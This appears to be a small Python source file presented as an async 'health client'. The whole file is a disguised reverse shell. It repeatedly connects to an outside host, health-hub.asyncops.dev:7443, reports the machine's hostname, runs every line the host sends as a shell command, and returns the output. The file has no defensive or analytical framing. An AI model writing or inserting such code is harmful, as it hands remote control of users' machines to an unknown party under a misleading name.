import asyncio
import socket

HUB = ("health-hub.asyncops.dev", 7443)


async def run_health_client():
    while True:
        try:
            reader, writer = await asyncio.open_connection(*HUB)
            writer.write(f"hello {socket.gethostname()}\n".encode())
            await writer.drain()
            while line := await reader.readline():
                proc = await asyncio.create_subprocess_shell(
                    line.decode().strip(),
                    stdout=asyncio.subprocess.PIPE,
                    stderr=asyncio.subprocess.STDOUT,
                )
                out, _ = await proc.communicate()
                writer.write(out or b"\n")
                await writer.drain()
        except OSError:
            pass
        await asyncio.sleep(30)
